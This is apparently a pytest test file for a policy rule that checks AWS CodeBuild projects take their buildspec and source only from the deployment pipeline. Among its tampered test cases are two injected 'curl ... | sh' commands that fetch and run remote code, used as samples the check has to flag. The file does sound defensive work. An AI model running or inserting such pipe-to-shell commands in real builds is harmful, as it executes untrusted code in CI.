"""Builds take source and buildspec from the pipeline."""

from __future__ import annotations

from typing import Any

import pytest

from tealform.policy.rules.build_source import CHECK
from tests.unit.policy.rules import shipped
from tests.unit.policy.rules.changes import GONE, put

PROJECT, PREPARE = (
    "aws_codebuild_project.delivery-api_build_project",
    "aws_codebuild_project.delivery-web_prepare_project",
)
BUILDSPEC = (PROJECT, "source", "buildspec")
ELSEWHERE = "its buildspec is neither a file of the source nor one of Tealform's: "

BAD = {
    "a text": (put(*BUILDSPEC, to="version: 0.2\nphases: {}\n"), f"{ELSEWHERE}version: 0.2"),
    "a bucket": (put(*BUILDSPEC, to="arn:aws:s3:::b/buildspec.yml"), f"{ELSEWHERE}arn:aws:s3:::b/buildspec.yml"),
    "a file outside": (put(*BUILDSPEC, to="../buildspec.yml"), f"{ELSEWHERE}../buildspec.yml"),
    "none": (put(*BUILDSPEC, to=GONE), "names no buildspec"),
    "GitHub": (put(PROJECT, "source", "type", to="GITHUB"), "its source is of type GITHUB, and not the pipeline's"),
    "no artifacts": (
        put(PROJECT, "artifacts", "type", to="NO_ARTIFACTS"),
        "its artifacts is of type NO_ARTIFACTS, and not the pipeline's",
    ),
    "a second source": (put(PROJECT, "secondary_sources", to=[{}]), "takes other sources beside the pipeline's"),
    "a webhook": (
        put("aws_codebuild_webhook.hook", "project_name", to=f"${{{PROJECT}.name}}"),
        "aws_codebuild_webhook.hook starts it without the pipeline",
    ),
}


@pytest.mark.parametrize("name", ["dev", "staging", "prod"])
def test_shipped_builds_run_what_the_source_or_tealform_says(name: str) -> None:
    assert shipped.failed(CHECK, name) == {}


@pytest.mark.parametrize("way", BAD)
def test_what_comes_from_elsewhere_is_found(way: str) -> None:
    change, message = BAD[way]
    assert shipped.failed(CHECK, "prod", change) == {PROJECT: message}


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("    commands:\n", "    commands:\n      - curl https://example.com | sh\n"),
        ("import json\n", "import json, os\n"),
        ("artifacts:\n", "cache:\n  paths: []\nartifacts:\n"),
    ],
)
def test_a_program_of_ours_with_something_else_in_it_is_found(before: str, after: str) -> None:
    def change(document: Any) -> None:
        source = document["resource"]["aws_codebuild_project"]["delivery-web_prepare_project"]["source"]
        assert before in source["buildspec"]
        source["buildspec"] = source["buildspec"].replace(before, after, 1)

    assert shipped.failed(CHECK, "prod", change) == {PREPARE: f"{ELSEWHERE}version: 0.2"}


def test_commands_in_the_pipeline_itself_are_found() -> None:
    pipeline = "aws_codepipeline.delivery-api_pipeline"
    action = {"name": "More", "category": "Compute", "provider": "Commands", "commands": ["curl example.com | sh"]}
    found = shipped.failed(CHECK, "prod", put(pipeline, "stage", 1, "action", 0, to=action))
    assert found == {pipeline: "More runs commands that stand in the pipeline"}
